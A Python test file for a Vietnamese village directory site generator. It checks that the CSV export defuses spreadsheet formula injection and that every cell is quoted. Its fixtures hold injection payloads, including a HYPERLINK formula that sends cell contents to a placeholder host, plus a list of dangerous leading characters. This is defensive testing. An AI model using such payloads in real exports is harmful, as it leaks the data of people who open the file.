"""The directory's downloads are safe to open: no CSV cell runs as a spreadsheet formula (OWASP
"CSV Injection"), and the other exports are not read by spreadsheets at all."""

from __future__ import annotations

import csv
import io
import json
import shutil

import formulas
import pytest
import vobject

from langso.directory.export import safe_cell
from tests.conftest import FIXTURE_SITES, BuildResult, build_site

# What a volunteer (or someone hostile) may type where the CSV shows it. Each would run, or be
# computed, when the CSV is opened in Excel, LibreOffice or Google Sheets.
NAME = '=HYPERLINK("https://vi-du.invalid/?d="&A1,"Bấm vào đây")'
DETAIL = "@SUM(1+1)"
HOURS_NOTE = "=10+20"
OTHER_NAME = "-2+3"
OTHER_NOTE = "+84 912 345 678 gọi trước"
SERVICES = {
    "content/danh-ba/hiem.yml": (
        f"ten: '{NAME}'\nloai: 'cho'\ndia_chi:\n  chi_tiet: '{DETAIL}'\n"
        f"ghi_chu_gio: '{HOURS_NOTE}'\n"
    ),
    "content/danh-ba/hiem-2.yml": (
        f"ten: '{OTHER_NAME}'\nloai: 'cho'\nghi_chu_gio: '{OTHER_NOTE}'\n"
    ),
}
ENGINE = formulas.Parser()


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> BuildResult:
    site = tmp_path_factory.mktemp("hostile") / "village"
    shutil.copytree(FIXTURE_SITES / "minimal", site)
    for rel, text in SERVICES.items():
        (site / rel).write_text(text, encoding="utf-8")
    result = build_site(site)
    assert result.ok, result.text()
    return result


def csv_rows(result: BuildResult) -> list[dict[str, str]]:
    text = (result.site_dir / "danh-ba" / "danh-ba.csv").read_bytes().decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_engine_would_run_the_values_as_typed() -> None:
    """Without the quote a spreadsheet engine compiles the name: the danger is real."""
    assert ENGINE.is_formula(NAME)
    assert ENGINE.is_formula(HOURS_NOTE)
    assert formulas.Parser().ast(NAME)[1].compile() is not None
    assert formulas.Parser().ast("=1+1")[1].compile()() == 2


def test_no_csv_cell_is_a_formula_and_every_value_survives_as_text(hostile: BuildResult) -> None:
    rows = {r["id"]: r for r in csv_rows(hostile)}
    assert rows["hiem"]["ten"] == "'" + NAME
    assert rows["hiem"]["dia_chi"] == "'" + DETAIL + ", xã Yên Định, tỉnh Thanh Hóa"
    assert rows["hiem"]["ghi_chu_gio"] == "'" + HOURS_NOTE
    assert rows["hiem-2"]["ten"] == "'" + OTHER_NAME
    assert rows["hiem-2"]["ghi_chu_gio"] == "'" + OTHER_NOTE
    assert rows["cho-phu-my"]["ten"] == "Chợ Phú Mỹ"  # ordinary text is left alone
    assert rows["cho-phu-my"]["vi_do"] == "19.98"
    for row in rows.values():
        for column, cell in row.items():
            assert not ENGINE.is_formula(cell), (column, cell)
            # OWASP: no cell starts with = + - @ tab or carriage return, even after spaces.
            assert not cell.lstrip(" {").startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_every_csv_cell_is_quoted(hostile: BuildResult) -> None:
    """A `,` `;` or `"` in a value never starts a new cell where a formula could hide."""
    text = (hostile.site_dir / "danh-ba" / "danh-ba.csv").read_bytes().decode("utf-8-sig")
    for line in text.split("\r\n")[:-1]:
        cells = next(csv.reader([line]))
        assert line == ",".join('"' + c.replace('"', '""') + '"' for c in cells)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+84 912 345 678", "'+84 912 345 678"),
        ("-", "'-"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        (" \u00a0=1", "' \u00a0=1"),
        ("{=1+1}", "'{=1+1}"),
        ("Chợ = nơi họp", "Chợ = nơi họp"),
        ("0912 345 678; 0237 3721 150", "0912 345 678; 0237 3721 150"),
        ("", ""),
        (19.98, 19.98),
        (None, None),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_other_exports_keep_the_value_exactly(hostile: BuildResult) -> None:
    """JSON, GeoJSON and vCard are not opened by spreadsheets: they keep the value as typed."""
    data = json.loads(hostile.read("danh-ba/danh-ba.json"))
    entry = next(e for e in data["dich_vu"] if e["id"] == "hiem")
    assert entry["ten"] == NAME
    assert entry["ghi_chu_gio"] == HOURS_NOTE
    cards = list(vobject.readComponents(hostile.read("danh-ba/danh-ba.vcf")))
    assert NAME in [card.fn.value for card in cards]
